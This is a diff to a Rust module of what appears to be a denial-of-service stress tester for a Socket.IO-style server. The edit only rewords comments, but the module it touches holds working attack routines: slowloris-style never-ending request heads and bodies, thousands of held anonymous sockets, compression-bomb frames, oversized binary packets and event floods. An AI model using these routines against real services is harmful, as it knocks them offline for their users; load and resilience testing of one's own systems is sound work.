@@ -5,22 +5,22 @@ use std::net::TcpStream;
 use std::thread;
 use std::time::{Duration, Instant};
 
-use super::Target;
 use super::attacker::{breathe, compressed, connect, drip, head, hold, nobody, send};
+use super::target::Target;
 
-/// Connections that are held, by as many threads as are named behind them.
+/// The number of connections that are held, and of the threads that hold them.
 const HELD: usize = 1_100;
 const THREADS: usize = 4;
-/// Sockets of nobody.
+/// The number of sockets without identity.
 const ANONYMOUS: usize = 5_000;
-/// Sockets with an unfinished packet.
+/// The number of sockets with an unfinished packet.
 const UNFINISHED: usize = 500;
-/// Bytes of an inflated message.
+/// Number of bytes of an inflated message.
 const INFLATED_BYTES: usize = 999_000;
-/// Frames a second of a socket whose frames inflate: about 390 kbit/s of 1 kB each.
+/// Number of frames per second of each socket whose frames inflate: about 390 kbit/s at 1 kB each.
 const BOMBS_PER_SECOND: u64 = 48;
 
-/// Does the same on several threads until it is over.
+/// Runs the same work on several threads until it is done.
 fn on_threads(count: usize, work: impl Fn() + Sync) {
     thread::scope(|scope| {
         for _ in 0..count {
@@ -29,7 +29,7 @@ fn on_threads(count: usize, work: impl Fn() + Sync) {
     });
 }
 
-/// Requests to a polling session of its own, whose body never comes.
+/// Requests to polling sessions of their own, whose bodies never arrive.
 pub(super) fn bodies(target: &Target) {
     on_threads(THREADS, || {
         let open = |to| {
@@ -46,7 +46,7 @@ pub(super) fn bodies(target: &Target) {
     });
 }
 
-/// Requests of a large answer, one behind the other, and nothing is read.
+/// Pipelined requests for a large response, which is never read.
 pub(super) fn unread(target: &Target) {
     const REQUEST: &str = "GET /api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n";
     on_threads(THREADS, || {
@@ -59,7 +59,7 @@ pub(super) fn unread(target: &Target) {
     });
 }
 
-/// Heads that never end.
+/// Request heads that never end.
 pub(super) fn heads(target: &Target) {
     on_threads(THREADS, || {
         let open = |to| {
@@ -71,12 +71,12 @@ pub(super) fn heads(target: &Target) {
     });
 }
 
-/// Sockets of nobody, which answer pings and say nothing.
+/// Sockets without identity, which answer pings and send nothing else.
 pub(super) fn anonymous(target: &Target) {
     on_threads(THREADS, || hold(target, ANONYMOUS / THREADS, Duration::from_secs(5), nobody, breathe));
 }
 
-/// A socket of nobody, tried again where it is refused; none once the attack is over.
+/// Opens a socket without identity, and retries if it is refused; `None` once the attack is over.
 fn next_nobody(target: &Target) -> Option<TcpStream> {
     while !target.is_over() {
         target.attempted();
@@ -89,9 +89,9 @@ fn next_nobody(target: &Target) -> Option<TcpStream> {
     None
 }
 
-/// Frames of a kilobyte that are a megabyte once inflated.
+/// Frames of one kilobyte that inflate to one megabyte.
 pub(super) fn bombs(target: &Target) {
-    // Many small values: what reads them into a tree pays for each.
+    // Many small values: a parser that builds a tree pays for each.
     let text = format!("42[\"send_message\",{{\"x\":[{}0]}}]", "{},".repeat(INFLATED_BYTES / 3));
     let Ok(frame) = compressed(&text) else { return };
     on_threads(4, || {
@@ -111,7 +111,7 @@ pub(super) fn bombs(target: &Target) {
     });
 }
 
-/// Binary packets whose text is a megabyte, and whose attachment never comes.
+/// Binary packets whose text is one megabyte, and whose attachment never arrives.
 pub(super) fn binary(target: &Target) {
     let fields = "\"data\":{\"_placeholder\":true,\"num\":0}";
     let text = format!("451-[\"send_message\",{{{fields},\"x\":\"{}\"}}]", "a".repeat(INFLATED_BYTES));
@@ -126,7 +126,7 @@ pub(super) fn binary(target: &Target) {
     });
 }
 
-/// Small events as fast as they are taken; the answers are read and thrown away.
+/// Small events, as fast as the server reads them; the answers are discarded.
 pub(super) fn flood(target: &Target) {
     on_threads(8, || {
         while let Some(mut stream) = next_nobody(target) {
